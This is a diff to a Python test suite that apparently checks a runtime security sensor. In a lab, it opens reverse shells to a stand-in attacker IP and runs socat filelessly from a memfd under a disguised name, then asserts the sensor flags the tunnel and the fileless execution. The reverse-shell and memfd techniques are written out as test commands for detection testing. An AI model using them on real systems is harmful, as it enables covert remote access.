@@ -88,7 +88,8 @@ def mine(alerts: list[dict], token: str) -> list[dict]:
 
 
 def reverse(sensorlab, netlab, command: str, *, family: int = 4, signal: str = "reverse_shell",
-            payload: bytes = PAYLOAD, expect: bytes = b"cw-42", timeout: float = 15, context: str = "plain") -> dict:
+            payload: bytes = PAYLOAD, expect: bytes = b"cw-42", timeout: float = 15, context: str = "plain",
+            replay_signal: str | None = None) -> dict:
     """Run ``command`` ({host}, {port}) in the victim against a listener; one incident, right destination."""
     port = next(_ports)
     host = netlab.attacker_ip6 if family == 6 else netlab.attacker_ip4
@@ -527,7 +528,10 @@ MEMFD_SOCAT = ("import os,sys;fd=os.memfd_create('svc');os.write(fd,open('/usr/b
 def test_memfd_socat_is_socat_and_fileless(sensorlab, netlab) -> None:
     """socat run from a memfd under another name: a tunnel tool by its content, and a fileless exec."""
     need("socat")
-    alert = reverse(sensorlab, netlab, f"python3 -c \"{MEMFD_SOCAT}\"", signal="tunnel_tool")
+    # The content is read from /proc/PID/exe while the process runs: the attacker's session lasts a moment.
+    # Replay has no /proc to read the content from: there the relay through socat's socketpair is the verdict.
+    alert = reverse(sensorlab, netlab, f"python3 -c \"{MEMFD_SOCAT}\"", signal="tunnel_tool",
+                    payload=b"echo cw-$((6*7))\nsleep 2\nexit\n", replay_signal="reverse_shell")
     assert "fileless_exec" in alert["chainwatch"]["signals"], alert["chainwatch"]["signals"]
 
 
